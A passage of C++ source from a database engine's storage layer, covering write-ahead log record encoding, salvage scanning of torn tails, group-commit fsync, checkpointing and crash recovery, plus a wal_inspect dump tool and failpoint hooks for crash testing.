              static_cast<unsigned long long>(rec.lsn),
              wal::record_type_name(rec.type),
              static_cast<unsigned long long>(rec.txn_id));
  for (const wal::RedoOp& op : rec.ops) {
    switch (op.kind) {
      case wal::RedoOp::Kind::kInsert:
        std::printf(" ins(%s@%zu)", op.table.c_str(), op.slot);
        break;
      case wal::RedoOp::Kind::kUpdate:
        std::printf(" upd(%s@%zu,%zu cols)", op.table.c_str(), op.slot,
                    op.changes.size());
        break;
      case wal::RedoOp::Kind::kDelete:
        std::printf(" del(%s@%zu)", op.table.c_str(), op.slot);
        break;
    }
  }
  for (const wal::DdlRedo& d : rec.ddl) {
    const char* kind = "?";
    switch (d.kind) {
      case wal::DdlRedo::Kind::kCreateTable:
        kind = "create";
        break;
      case wal::DdlRedo::Kind::kDropTable:
        kind = "drop";
        break;
      case wal::DdlRedo::Kind::kTruncate:
        kind = "truncate";
        break;
      case wal::DdlRedo::Kind::kCreateIndex:
        kind = "create_index";
        break;
      case wal::DdlRedo::Kind::kDropIndex:
        kind = "drop_index";
        break;
    }
    std::printf(" ddl:%s(%s)", kind, d.table.c_str());
  }
  if (!rec.ddl_undo.empty()) {
    std::printf(" undo×%zu", rec.ddl_undo.size());
  }
  std::printf("\n");
}

int dump_wal(const std::string& path) {
  try {
    wal::WalScan scan = wal::scan_wal(path);
    if (!scan.file_found) {
      std::printf("wal: %s (absent)\n", path.c_str());
      return 0;
    }
    std::printf("wal: %s\n  header=%s start_lsn=%llu records=%zu "
                "valid_bytes=%zu torn_bytes=%zu\n",
                path.c_str(), scan.header_ok ? "ok" : "BAD",
                static_cast<unsigned long long>(scan.start_lsn),
                scan.records.size(), scan.valid_bytes, scan.torn_bytes);
    for (const wal::WalRecord& rec : scan.records) print_record(rec);
    return (!scan.header_ok || scan.torn_bytes > 0) ? 1 : 0;
  } catch (const std::exception& e) {
    std::printf("wal: %s\n  UNREADABLE: %s\n", path.c_str(), e.what());
    return 2;
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 3 && std::strcmp(argv[1], "--wal") == 0) {
    return dump_wal(argv[2]);
  }
  if (argc == 3 && std::strcmp(argv[1], "--checkpoint") == 0) {
    return dump_checkpoint(argv[2]);
  }
  if (argc != 2 || argv[1][0] == '-') {
    std::fprintf(stderr,
                 "usage: wal_inspect <data-dir>\n"
                 "       wal_inspect --wal <file>\n"
                 "       wal_inspect --checkpoint <file>\n");
    return 2;
  }
  std::string dir = argv[1];
  int rc_cp = dump_checkpoint(dir + "/tables.pg");
  int rc_wal = dump_wal(dir + "/wal.log");
  return rc_cp > rc_wal ? rc_cp : rc_wal;
}

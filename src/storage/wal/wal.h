// Write-ahead log: the durability backbone of the engine.
//
// File layout (wal.log in the data directory):
//
//   SEPTICWAL 1 <start_lsn>\n          text header
//   [u32 len][u32 crc][payload] ...    binary-framed records, back to back
//
// len is the payload byte count, crc is CRC-32 over the payload (the same
// per-record discipline as the v2 QM store). The payload itself is text:
// a "<lsn> <type> <txn_id>" head line followed by the record body, so
// `wal_inspect` can dump a log with no schema knowledge beyond this file.
//
// A crash can tear the tail: the salvage scanner (scan_wal) accepts the
// longest prefix of CRC-valid records and reports the torn byte count;
// recovery truncates the file back to the valid prefix before appending.
// LSNs are assigned by the writer, increase by one per record, and stay
// monotonic across checkpoint rotations (the header's start_lsn carries
// the sequence over), so "record already covered by the checkpoint" is a
// plain LSN comparison.
//
// Group commit: append() and sync_to() are separate so the engine can
// append under its commit-ordering lock and fsync outside it. sync_to
// elects the first waiter as leader; the leader fsyncs once for every
// record appended up to that moment and wakes all waiters whose LSN the
// batch covered. Under N concurrent committers one fsync therefore acks
// up to N commits (the commits-per-fsync factor the PR7 bench measures).
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <mutex>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "common/thread_annotations.h"
#include "storage/wal/redo.h"

namespace septic::storage::wal {

/// Thrown for unrecoverable log/checkpoint problems (recovery wraps it in
/// the engine's RECOVERY error).
class WalError : public std::runtime_error {
 public:
  explicit WalError(std::string msg) : std::runtime_error(std::move(msg)) {}
};

/// Crash site: kill the process dead (no unwinding, no flushing) when the
/// named failpoint is armed. This is how the crash-matrix test simulates
/// kill -9 at a precise instruction boundary; compiled-out failpoint
/// builds make it a no-op.
void crashpoint(const char* name);

enum class RecordType : uint8_t {
  /// A committed unit of row changes: one autocommit statement's journal,
  /// or one transaction's applied write set. txn_id 0 = autocommit. Also
  /// the end marker of a transaction that executed DDL.
  kCommit = 1,
  /// One executed DDL statement (applies immediately, like MySQL).
  /// Carries the forward op and, for DDL inside a transaction, the
  /// inverse op recovery must honor if the transaction never commits.
  kDdl = 2,
  /// ROLLBACK of a transaction that executed DDL: its recorded undos were
  /// applied at runtime; recovery re-applies them in reverse.
  kRollback = 3,
  /// A transaction that executed DDL ended without committing its writes
  /// and WITHOUT undoing its DDL (first-committer-wins conflict or a
  /// commit-time constraint failure: MySQL-style non-transactional DDL
  /// survives those). Recovery keeps the DDL and discards the writes.
  kEndKeepDdl = 4,
};

const char* record_type_name(RecordType t);

/// One DDL forward operation, replayable against a catalog.
struct DdlRedo {
  enum class Kind : uint8_t {
    kCreateTable,   // schema_block holds a rowless table block
    kDropTable,
    kTruncate,
    kCreateIndex,
    kDropIndex,
  };
  Kind kind = Kind::kCreateTable;
  std::string table;         // display name as executed
  std::string index;         // index DDL
  std::string column;        // kCreateIndex
  std::string schema_block;  // kCreateTable
};

/// One DDL inverse operation (mirrors engine::txn::DdlUndo, serialized so
/// recovery can honor the undo without the engine layer).
struct DdlUndoRedo {
  enum class Kind : uint8_t {
    kDropTable,
    kRestoreTable,
    kDropIndex,
    kCreateIndex,
  };
  Kind kind = Kind::kDropTable;
  std::string table;
  std::string index;
  std::string column;
  std::string snapshot;  // kRestoreTable: serialized one-table block
};

struct WalRecord {
  uint64_t lsn = 0;
  RecordType type = RecordType::kCommit;
  uint64_t txn_id = 0;
  StatementJournal ops;              // kCommit
  std::vector<DdlRedo> ddl;          // kDdl (one op)
  std::vector<DdlUndoRedo> ddl_undo; // kDdl (empty for autocommit DDL)
};

/// Payload text for a record (no framing, no lsn assignment).
std::string encode_record(const WalRecord& r);
/// Parse a payload; returns false on malformed input (corruption).
bool decode_record(std::string_view payload, WalRecord& out);

/// Result of a salvage scan over a log file.
struct WalScan {
  bool file_found = false;
  bool header_ok = false;
  uint64_t start_lsn = 1;
  std::vector<WalRecord> records;
  /// Byte offset just past the last valid record — the truncation point.
  size_t valid_bytes = 0;
  /// Bytes past valid_bytes that failed framing/CRC/decode (torn tail).
  size_t torn_bytes = 0;
};

/// Read and verify a log. Never throws for tail corruption (that is what
/// the scan reports); throws WalError only when the file exists but cannot
/// be read at all.
WalScan scan_wal(const std::string& path);

struct WalWriterStats {
  uint64_t appends = 0;
  uint64_t bytes_appended = 0;
  uint64_t fsyncs = 0;
  /// sync_to() calls that returned (each is one durably acked commit).
  uint64_t sync_calls = 0;
  /// sync_to() calls satisfied by another caller's fsync (the group-commit
  /// win: sync_calls - leader fsync count it took to serve them).
  uint64_t batched_syncs = 0;
  uint64_t rotations = 0;
};

class WalWriter {
 public:
  /// Open `path` for appending. `next_lsn` is the LSN the next record gets;
  /// `resume_at` truncates the file to that many bytes first (salvage
  /// discipline: drop a torn tail before appending over it). When the file
  /// does not exist it is created with a "SEPTICWAL 1 <next_lsn>" header.
  WalWriter(std::string path, uint64_t next_lsn, size_t resume_at);
  ~WalWriter();

  WalWriter(const WalWriter&) = delete;
  WalWriter& operator=(const WalWriter&) = delete;

  /// Frame and write one record; assigns and returns its LSN. The bytes
  /// reach the kernel before append returns (write(2)), not the platter —
  /// call sync_to / sync_all for that. Thread-safe; callers that need
  /// record order to match data-structure mutation order must hold their
  /// own ordering lock across mutation + append (the engine's commit/DDL
  /// tiers already do).
  ///
  /// A write(2) failure mid-frame POISONS the writer: the partial frame
  /// is rewound (best effort) and every later append throws until
  /// rotate() starts a fresh log. The mutation the failed record
  /// described already applied in memory, so a later record would replay
  /// against a recovered state missing it — only a checkpoint (which
  /// captures the full in-memory state) makes appending safe again.
  uint64_t append(WalRecord r);

  /// True after an append failed; cleared by rotate().
  bool poisoned() const;

  /// Group commit: block until every record up to `lsn` is fsynced. The
  /// first waiter becomes leader and fsyncs for everyone queued behind it.
  void sync_to(uint64_t lsn);

  /// Fsync everything appended so far (checkpoint barriers, shutdown).
  void sync_all();

  /// Start a fresh log after a checkpoint: truncate to a new header whose
  /// start_lsn continues the sequence, fsync. Callers must exclude
  /// concurrent appends (the engine holds the DDL lock exclusively).
  void rotate();

  uint64_t next_lsn() const;
  uint64_t last_lsn() const { return next_lsn() - 1; }
  /// Current file size — the engine's checkpoint trigger.
  uint64_t bytes() const;

  WalWriterStats stats() const;

 private:
  void write_frame(std::string_view payload) SEPTIC_REQUIRES(append_mu_);

  std::string path_;
  int fd_ = -1;

  mutable std::mutex append_mu_;  // fd offset + lsn assignment
  uint64_t next_lsn_ SEPTIC_GUARDED_BY(append_mu_) = 1;
  uint64_t appended_lsn_ SEPTIC_GUARDED_BY(append_mu_) = 0;
  uint64_t bytes_ SEPTIC_GUARDED_BY(append_mu_) = 0;
  /// Set when an append failed mid-frame; appends refuse until rotate().
  bool poisoned_ SEPTIC_GUARDED_BY(append_mu_) = false;

  std::mutex sync_mu_ SEPTIC_ACQUIRE_AFTER(append_mu_);
  std::condition_variable sync_cv_;
  bool leader_active_ SEPTIC_GUARDED_BY(sync_mu_) = false;
  uint64_t durable_lsn_ SEPTIC_GUARDED_BY(sync_mu_) = 0;

  std::atomic<uint64_t> appends_{0};
  std::atomic<uint64_t> bytes_appended_{0};
  std::atomic<uint64_t> fsyncs_{0};
  std::atomic<uint64_t> sync_calls_{0};
  std::atomic<uint64_t> batched_syncs_{0};
  std::atomic<uint64_t> rotations_{0};
};

}  // namespace septic::storage::wal

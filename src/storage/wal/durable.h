// DurableStorage: ties the WAL, the paged checkpoint file, and recovery
// together into the engine-facing durability surface.
//
// Files in the data directory:
//   wal.log      write-ahead log (see wal.h)
//   tables.pg    paged catalog checkpoint (see pager.h)
//   tables.pg.tmp  checkpoint in flight; ignored (and replaced) on boot
//
// Protocol (the engine enforces the locking):
//   - Writers append a record (log_commit/log_ddl/...) while holding the
//     same locks that order the data-structure mutation (the MVCC commit
//     mutex for DML, the exclusive DDL lock for DDL), so log order equals
//     apply order. They then call ack_sync(lsn) OUTSIDE those locks:
//     under full durability that joins the group commit; under relaxed it
//     returns immediately (the log is still written, just not fsynced).
//   - checkpoint() runs with writers excluded (exclusive DDL lock):
//     serialize the catalog (reusing cached blocks for tables no record
//     touched since the last checkpoint), write tmp + fsync + rename +
//     dir-fsync, then rotate the WAL. Crash anywhere in between recovers
//     from either the old or the new checkpoint, never a mix.
//   - recover_into() runs once at boot before the engine goes live: load
//     the checkpoint, replay WAL records past its watermark, honor the
//     DDL undo of transactions that never finished, truncate the torn
//     tail, and open the WAL for appending. The caller adopts the filled
//     catalog only when recovery returns (all-or-nothing boot).
#pragma once

#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "common/thread_annotations.h"
#include "storage/catalog.h"
#include "storage/wal/pager.h"
#include "storage/wal/wal.h"

namespace septic::storage::wal {

enum class DurabilityMode : uint8_t {
  /// No data directory: tables are volatile, every log_* call is a no-op.
  kOff = 0,
  /// Log writes reach the kernel per commit but fsync only at checkpoint,
  /// rotation, and shutdown. A crash may lose the last few commits; it
  /// never corrupts (innodb_flush_log_at_trx_commit=0 territory).
  kRelaxed = 1,
  /// COMMIT acks only after its record is fsynced (group commit batches
  /// the fsyncs across concurrent committers).
  kFull = 2,
};

const char* durability_mode_name(DurabilityMode m);

struct RecoveryReport {
  bool checkpoint_loaded = false;
  uint64_t checkpoint_lsn = 0;
  /// ddl_version to boot the engine with (checkpoint value + replayed
  /// schema changes), so digest-cache generation tags restart coherent.
  uint64_t ddl_version = 0;
  size_t records_scanned = 0;
  size_t records_skipped = 0;  // lsn <= checkpoint watermark
  size_t commits_replayed = 0;
  size_t ddl_replayed = 0;
  size_t rollbacks_replayed = 0;
  size_t end_keep_ddl_replayed = 0;
  /// Transactions whose DDL was on the log but which never reached an end
  /// record — their DDL undo was applied (crash mid-transaction).
  size_t txns_discarded = 0;
  size_t wal_torn_bytes = 0;
  size_t rows_recovered = 0;
};

struct DurabilityStats {
  DurabilityMode mode = DurabilityMode::kOff;
  WalWriterStats wal;
  PageCacheStats page_cache;
  uint64_t checkpoints = 0;
  uint64_t checkpoint_tables_serialized = 0;
  /// Tables whose serialized block was reused because nothing dirtied
  /// them since the previous checkpoint.
  uint64_t checkpoint_tables_reused = 0;
  uint64_t last_checkpoint_lsn = 0;
};

class DurableStorage {
 public:
  struct Options {
    std::string dir;
    DurabilityMode mode = DurabilityMode::kFull;
    /// checkpoint() is requested once the WAL grows past this many bytes.
    uint64_t checkpoint_wal_bytes = 4u << 20;
    size_t page_cache_pages = 64;
  };

  /// Creates the directory if needed; does NOT touch the files yet —
  /// recover_into() does all the I/O, so a failed boot leaves no
  /// half-open handles. Throws WalError if the directory can't be made.
  explicit DurableStorage(Options opts);
  ~DurableStorage();

  DurableStorage(const DurableStorage&) = delete;
  DurableStorage& operator=(const DurableStorage&) = delete;

  /// Boot-time recovery: fill `catalog` (replacing its contents) from the
  /// checkpoint + WAL, truncate any torn tail, open the WAL for append.
  /// Must be called exactly once, before any log_* call. Throws WalError
  /// on unrecoverable corruption or I/O failure, in which case nothing is
  /// half-applied to the caller's world: the catalog passed in is a
  /// scratch the caller only adopts on success.
  RecoveryReport recover_into(Catalog& catalog);

  DurabilityMode mode() const { return mode_; }
  /// Runtime switch (bench sweeps). Going relaxed->full does not
  /// retroactively sync old records; the next ack does. LEAVING kOff
  /// requires a checkpoint BEFORE the next logged record: mutations made
  /// while off were never logged, so replaying newer records against a
  /// checkpoint state missing them diverges (insert slot mismatch fails
  /// the next boot at best, updates land on wrong rows at worst). The
  /// engine's Database::set_durability_mode enforces this; direct callers
  /// must do the same. Leaving kOff here invalidates the checkpoint block
  /// cache: off-mode mutations never passed through mark_dirty, so the
  /// transition checkpoint must re-serialize every table.
  void set_mode(DurabilityMode m);

  /// Append one committed unit of row changes. txn_id 0 = autocommit.
  /// Returns the record's LSN (pass to ack_sync). Caller holds the lock
  /// that ordered the mutations.
  uint64_t log_commit(uint64_t txn_id, StatementJournal ops);

  /// Append one executed DDL statement (undo non-empty iff inside a
  /// transaction). Caller holds the exclusive DDL lock.
  uint64_t log_ddl(uint64_t txn_id, DdlRedo op,
                   std::vector<DdlUndoRedo> undo);

  /// Append the end marker of a DDL-bearing transaction that rolled back.
  /// `undo` is the list the runtime just applied (in recorded order; the
  /// record carries it so replay never depends on a kDdl record that a
  /// checkpoint rotation may have retired)...
  uint64_t log_rollback(uint64_t txn_id, std::vector<DdlUndoRedo> undo);
  /// ...or ended without committing but keeps its DDL (conflict /
  /// commit-time constraint failure).
  uint64_t log_end_keep_ddl(uint64_t txn_id);

  /// Durability barrier for an appended record, honoring the mode. Call
  /// OUTSIDE the ordering locks; under full durability this blocks until
  /// the group-commit leader fsyncs past `lsn`.
  void ack_sync(uint64_t lsn);

  /// True once the WAL has outgrown the checkpoint threshold — or its
  /// writer was poisoned by a failed append (see wal_poisoned), in which
  /// case only a checkpoint restores the durability plane.
  bool wants_checkpoint() const;

  /// True while the WAL writer refuses appends after a mid-frame write
  /// failure. checkpoint() heals it (rotate clears the poison).
  bool wal_poisoned() const;

  /// Write a new checkpoint of `catalog` and rotate the WAL. Caller
  /// excludes all writers (exclusive DDL lock) AND guarantees no open
  /// transaction holds pending DDL undo — rotation retires that
  /// transaction's kDdl records, so a later crash could no longer honor
  /// its undo (the engine defers checkpoints until the txn ends).
  /// Safe to crash anywhere.
  void checkpoint(const Catalog& catalog, uint64_t ddl_version);

  /// Fsync outstanding log records (shutdown, relaxed-mode barrier).
  void sync();

  DurabilityStats stats() const;

  const std::string& dir() const { return opts_.dir; }
  std::string wal_path() const;
  std::string checkpoint_path() const;

  // ---- checkpoint content codec (exposed for wal_inspect + tests) -------

  /// Serialize the catalog to checkpoint content, preserving slot
  /// numbering (unlike Catalog::save_snapshot, which compacts).
  static std::string encode_catalog(const Catalog& catalog);
  /// Rebuild `catalog` (replacing contents) from checkpoint content.
  /// Throws WalError on malformed input.
  static void decode_catalog(std::string_view content, Catalog& catalog);

  /// Apply one redo op to a catalog (slot-verified). Used by recovery and
  /// exposed for tests. Throws WalError on divergence.
  static void apply_redo(Catalog& catalog, const RedoOp& op);
  /// Apply one forward DDL op / one DDL undo op.
  static void apply_ddl(Catalog& catalog, const DdlRedo& op);
  static void apply_ddl_undo(Catalog& catalog, const DdlUndoRedo& op);

 private:
  uint64_t append_record(WalRecord rec);
  void mark_dirty(const std::string& table_key);

  Options opts_;
  std::atomic<DurabilityMode> mode_;
  bool recovered_ = false;
  std::unique_ptr<WalWriter> wal_;
  PageCache page_cache_;

  /// Serialized table blocks from the last checkpoint, reused for tables
  /// no WAL record touched since. Guarded by dirty_mu_ (writers mark
  /// dirty concurrently; checkpoint runs with writers excluded but takes
  /// the mutex anyway — it is uncontended then).
  mutable std::mutex dirty_mu_;
  std::unordered_map<std::string, std::string> block_cache_
      SEPTIC_GUARDED_BY(dirty_mu_);
  std::unordered_set<std::string> dirty_ SEPTIC_GUARDED_BY(dirty_mu_);

  std::atomic<uint64_t> checkpoints_{0};
  std::atomic<uint64_t> tables_serialized_{0};
  std::atomic<uint64_t> tables_reused_{0};
  std::atomic<uint64_t> last_checkpoint_lsn_{0};
};

}  // namespace septic::storage::wal

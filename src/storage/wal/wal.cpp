#include "storage/wal/wal.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <charconv>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>

#include "common/failpoint.h"
#include "common/hash.h"
#include "storage/wal/codec.h"

namespace septic::storage::wal {

namespace {

using codec::Cursor;
using codec::put_str;
using codec::put_u64;

constexpr std::string_view kMagic = "SEPTICWAL 1 ";
// Frames larger than this are treated as tail corruption, not allocations.
constexpr uint32_t kMaxFrameLen = 1u << 30;

bool decode_value(Cursor& c, sql::Value& out) {
  std::string_view repr = c.str();
  if (!c.ok) return false;
  return sql::Value::from_repr(repr, out);
}

// ---- little-endian frame ints --------------------------------------------

void put_u32le(std::string& out, uint32_t v) {
  char b[4];
  b[0] = static_cast<char>(v & 0xff);
  b[1] = static_cast<char>((v >> 8) & 0xff);
  b[2] = static_cast<char>((v >> 16) & 0xff);
  b[3] = static_cast<char>((v >> 24) & 0xff);
  out.append(b, 4);
}

uint32_t get_u32le(const char* p) {
  return static_cast<uint32_t>(static_cast<unsigned char>(p[0])) |
         (static_cast<uint32_t>(static_cast<unsigned char>(p[1])) << 8) |
         (static_cast<uint32_t>(static_cast<unsigned char>(p[2])) << 16) |
         (static_cast<uint32_t>(static_cast<unsigned char>(p[3])) << 24);
}

void write_all(int fd, const char* data, size_t n, const std::string& what) {
  while (n > 0) {
    ssize_t w = ::write(fd, data, n);
    if (w < 0) {
      if (errno == EINTR) continue;
      throw WalError("wal: write failed (" + what +
                     "): " + std::strerror(errno));
    }
    data += w;
    n -= static_cast<size_t>(w);
  }
}

}  // namespace

void crashpoint(const char* name) {
  (void)name;
  SEPTIC_FAILPOINT_HOOK(name) {
    // Simulated kill -9: no unwinding, no atexit, no stream flush. Exit
    // code 42 tells the crash-matrix parent the child died at the armed
    // site rather than of natural causes.
    std::_Exit(42);
  }
}

const char* record_type_name(RecordType t) {
  switch (t) {
    case RecordType::kCommit:
      return "COMMIT";
    case RecordType::kDdl:
      return "DDL";
    case RecordType::kRollback:
      return "ROLLBACK";
    case RecordType::kEndKeepDdl:
      return "END_KEEP_DDL";
  }
  return "?";
}

std::string encode_record(const WalRecord& r) {
  std::string out;
  put_u64(out, r.lsn);
  put_u64(out, static_cast<uint64_t>(r.type));
  put_u64(out, r.txn_id);
  put_u64(out, r.ops.size());
  put_u64(out, r.ddl.size());
  put_u64(out, r.ddl_undo.size());
  for (const RedoOp& op : r.ops) {
    put_u64(out, static_cast<uint64_t>(op.kind));
    put_str(out, op.table);
    put_u64(out, op.slot);
    switch (op.kind) {
      case RedoOp::Kind::kInsert:
        put_u64(out, op.row.size());
        for (const sql::Value& v : op.row) put_str(out, v.repr());
        break;
      case RedoOp::Kind::kUpdate:
        put_u64(out, op.changes.size());
        for (const auto& [col, v] : op.changes) {
          put_u64(out, col);
          put_str(out, v.repr());
        }
        break;
      case RedoOp::Kind::kDelete:
        break;
    }
  }
  for (const DdlRedo& d : r.ddl) {
    put_u64(out, static_cast<uint64_t>(d.kind));
    put_str(out, d.table);
    put_str(out, d.index);
    put_str(out, d.column);
    put_str(out, d.schema_block);
  }
  for (const DdlUndoRedo& u : r.ddl_undo) {
    put_u64(out, static_cast<uint64_t>(u.kind));
    put_str(out, u.table);
    put_str(out, u.index);
    put_str(out, u.column);
    put_str(out, u.snapshot);
  }
  return out;
}

bool decode_record(std::string_view payload, WalRecord& out) {
  Cursor c{payload};
  out = WalRecord{};
  out.lsn = c.u64();
  uint64_t type = c.u64();
  out.txn_id = c.u64();
  uint64_t nops = c.u64();
  uint64_t nddl = c.u64();
  uint64_t nundo = c.u64();
  if (!c.ok) return false;
  if (type < 1 || type > 4) return false;
  out.type = static_cast<RecordType>(type);
  // Counts are bounded by the payload size (every op costs bytes), so a
  // corrupt count cannot drive a huge reserve.
  if (nops > payload.size() || nddl > payload.size() ||
      nundo > payload.size()) {
    return false;
  }
  out.ops.reserve(nops);
  for (uint64_t k = 0; k < nops; ++k) {
    RedoOp op;
    uint64_t kind = c.u64();
    if (!c.ok || kind > 2) return false;
    op.kind = static_cast<RedoOp::Kind>(kind);
    op.table = std::string(c.str());
    op.slot = c.u64();
    switch (op.kind) {
      case RedoOp::Kind::kInsert: {
        uint64_t n = c.u64();
        if (!c.ok || n > payload.size()) return false;
        op.row.reserve(n);
        for (uint64_t j = 0; j < n; ++j) {
          sql::Value v;
          if (!decode_value(c, v)) return false;
          op.row.push_back(std::move(v));
        }
        break;
      }
      case RedoOp::Kind::kUpdate: {
        uint64_t n = c.u64();
        if (!c.ok || n > payload.size()) return false;
        op.changes.reserve(n);
        for (uint64_t j = 0; j < n; ++j) {
          uint64_t col = c.u64();
          sql::Value v;
          if (!decode_value(c, v)) return false;
          op.changes.emplace_back(static_cast<size_t>(col), std::move(v));
        }
        break;
      }
      case RedoOp::Kind::kDelete:
        break;
    }
    if (!c.ok) return false;
    out.ops.push_back(std::move(op));
  }
  for (uint64_t k = 0; k < nddl; ++k) {
    DdlRedo d;
    uint64_t kind = c.u64();
    if (!c.ok || kind > 4) return false;
    d.kind = static_cast<DdlRedo::Kind>(kind);
    d.table = std::string(c.str());
    d.index = std::string(c.str());
    d.column = std::string(c.str());
    d.schema_block = std::string(c.str());
    if (!c.ok) return false;
    out.ddl.push_back(std::move(d));
  }
  for (uint64_t k = 0; k < nundo; ++k) {
    DdlUndoRedo u;
    uint64_t kind = c.u64();
    if (!c.ok || kind > 3) return false;
    u.kind = static_cast<DdlUndoRedo::Kind>(kind);
    u.table = std::string(c.str());
    u.index = std::string(c.str());
    u.column = std::string(c.str());
    u.snapshot = std::string(c.str());
    if (!c.ok) return false;
    out.ddl_undo.push_back(std::move(u));
  }
  return c.ok && c.i == payload.size();
}

WalScan scan_wal(const std::string& path) {
  WalScan scan;
  std::ifstream in(path, std::ios::binary);
  if (!in) return scan;
  scan.file_found = true;
  std::ostringstream buf;
  buf << in.rdbuf();
  if (in.bad()) throw WalError("wal: cannot read " + path);
  std::string data = buf.str();

  // Header: "SEPTICWAL 1 <start_lsn>\n".
  size_t nl = data.find('\n');
  if (nl == std::string::npos || data.compare(0, kMagic.size(), kMagic) != 0) {
    scan.torn_bytes = data.size();
    return scan;
  }
  {
    std::string_view lsn_s{data.data() + kMagic.size(), nl - kMagic.size()};
    uint64_t v = 0;
    auto [p, ec] = std::from_chars(lsn_s.data(), lsn_s.data() + lsn_s.size(), v);
    if (ec != std::errc() || p != lsn_s.data() + lsn_s.size() || v == 0) {
      scan.torn_bytes = data.size();
      return scan;
    }
    scan.start_lsn = v;
  }
  scan.header_ok = true;
  size_t off = nl + 1;
  scan.valid_bytes = off;

  uint64_t expect_lsn = scan.start_lsn;
  while (off + 8 <= data.size()) {
    uint32_t len = get_u32le(data.data() + off);
    uint32_t crc = get_u32le(data.data() + off + 4);
    if (len == 0 || len > kMaxFrameLen || off + 8 + len > data.size()) break;
    std::string_view payload{data.data() + off + 8, len};
    if (common::crc32(payload) != crc) break;
    WalRecord rec;
    if (!decode_record(payload, rec)) break;
    if (rec.lsn != expect_lsn) break;
    scan.records.push_back(std::move(rec));
    ++expect_lsn;
    off += 8 + len;
    scan.valid_bytes = off;
  }
  scan.torn_bytes = data.size() - scan.valid_bytes;
  return scan;
}

// ---- WalWriter ------------------------------------------------------------

WalWriter::WalWriter(std::string path, uint64_t next_lsn, size_t resume_at)
    : path_(std::move(path)), next_lsn_(next_lsn) {
  if (next_lsn_ == 0) throw WalError("wal: lsn 0 is reserved");
  appended_lsn_ = next_lsn_ - 1;
  durable_lsn_ = next_lsn_ - 1;
  fd_ = ::open(path_.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0644);
  if (fd_ < 0) {
    throw WalError("wal: cannot open " + path_ + ": " + std::strerror(errno));
  }
  struct stat st{};
  if (::fstat(fd_, &st) != 0) {
    ::close(fd_);
    fd_ = -1;
    throw WalError("wal: fstat failed: " + std::string(std::strerror(errno)));
  }
  auto size = static_cast<size_t>(st.st_size);
  if (resume_at > size) resume_at = size;
  if (resume_at > 0) {
    // Resume after salvage: drop the torn tail, keep the valid prefix.
    if (::ftruncate(fd_, static_cast<off_t>(resume_at)) != 0) {
      ::close(fd_);
      fd_ = -1;
      throw WalError("wal: truncate failed: " +
                     std::string(std::strerror(errno)));
    }
    if (resume_at != size) {
      if (::fsync(fd_) != 0) {
        ::close(fd_);
        fd_ = -1;
        throw WalError("wal: fsync failed: " +
                       std::string(std::strerror(errno)));
      }
    }
    ::lseek(fd_, 0, SEEK_END);
    bytes_ = resume_at;
  } else {
    // Fresh (or unreadable) log: start over with a clean header.
    if (::ftruncate(fd_, 0) != 0) {
      ::close(fd_);
      fd_ = -1;
      throw WalError("wal: truncate failed: " +
                     std::string(std::strerror(errno)));
    }
    ::lseek(fd_, 0, SEEK_SET);
    std::string header{kMagic};
    header += std::to_string(next_lsn_);
    header += '\n';
    try {
      write_all(fd_, header.data(), header.size(), "header");
    } catch (...) {
      ::close(fd_);
      fd_ = -1;
      throw;
    }
    if (::fsync(fd_) != 0) {
      ::close(fd_);
      fd_ = -1;
      throw WalError("wal: fsync failed: " +
                     std::string(std::strerror(errno)));
    }
    bytes_ = header.size();
  }
}

WalWriter::~WalWriter() {
  if (fd_ >= 0) ::close(fd_);
}

uint64_t WalWriter::append(WalRecord r) {
  std::lock_guard lk(append_mu_);
  if (poisoned_) {
    throw WalError(
        "wal: writer poisoned by an earlier append failure (checkpoint to "
        "heal)");
  }
  r.lsn = next_lsn_;
  std::string payload = encode_record(r);
  try {
    write_frame(payload);
  } catch (...) {
    // The failed write may have left a partial frame at the advanced fd
    // offset. Appending past it would bury garbage that the next salvage
    // scan stops at, discarding every later record — fsync-acked commits
    // included — as torn. Rewind to the last well-formed boundary, and
    // refuse further appends either way: the mutation this record
    // described already applied in memory, so any later record would
    // replay against a recovered state missing it. rotate() (the
    // checkpoint path, which folds the full in-memory state into a
    // durable image) clears the poison.
    if (::ftruncate(fd_, static_cast<off_t>(bytes_)) == 0) {
      ::lseek(fd_, 0, SEEK_END);
    }
    poisoned_ = true;
    throw;
  }
  appended_lsn_ = next_lsn_;
  ++next_lsn_;
  bytes_ += 8 + payload.size();
  appends_.fetch_add(1, std::memory_order_relaxed);
  bytes_appended_.fetch_add(8 + payload.size(), std::memory_order_relaxed);
  return appended_lsn_;
}

void WalWriter::write_frame(std::string_view payload) {
  std::string frame;
  frame.reserve(8 + payload.size());
  put_u32le(frame, static_cast<uint32_t>(payload.size()));
  put_u32le(frame, common::crc32(payload));
  frame.append(payload.data(), payload.size());
  crashpoint("wal.append.crash_before");
  SEPTIC_FAILPOINT_HOOK("wal.append.crash_torn") {
    // Torn write: half the frame reaches the file, then the plug is
    // pulled. Recovery must CRC-reject the tail.
    write_all(fd_, frame.data(), frame.size() / 2, "torn frame");
    std::_Exit(42);
  }
  SEPTIC_FAILPOINT_HOOK("wal.append.io_error") {
    // I/O error mid-frame with the process still alive (ENOSPC, EIO):
    // half the frame lands, then the write fails. append() must rewind
    // the partial frame and poison the writer.
    write_all(fd_, frame.data(), frame.size() / 2, "partial frame");
    throw WalError("wal: write failed (frame): injected I/O error");
  }
  write_all(fd_, frame.data(), frame.size(), "frame");
  crashpoint("wal.append.crash_after");
}

void WalWriter::sync_to(uint64_t lsn) {
  sync_calls_.fetch_add(1, std::memory_order_relaxed);
  std::unique_lock lk(sync_mu_);
  bool led = false;
  while (durable_lsn_ < lsn) {
    if (!leader_active_) {
      leader_active_ = true;
      led = true;
      lk.unlock();
      // Snapshot the append high-water mark before fsyncing: every frame
      // up to it is fully in the kernel, so one fsync covers them all.
      // Taken after dropping sync_mu_ — append_mu_ is never acquired
      // under sync_mu_ (rotate() nests the other way round).
      uint64_t target;
      {
        std::lock_guard alk(append_mu_);
        target = appended_lsn_;
      }
      crashpoint("wal.sync.crash_before");
      if (::fsync(fd_) != 0) {
        lk.lock();
        leader_active_ = false;
        sync_cv_.notify_all();
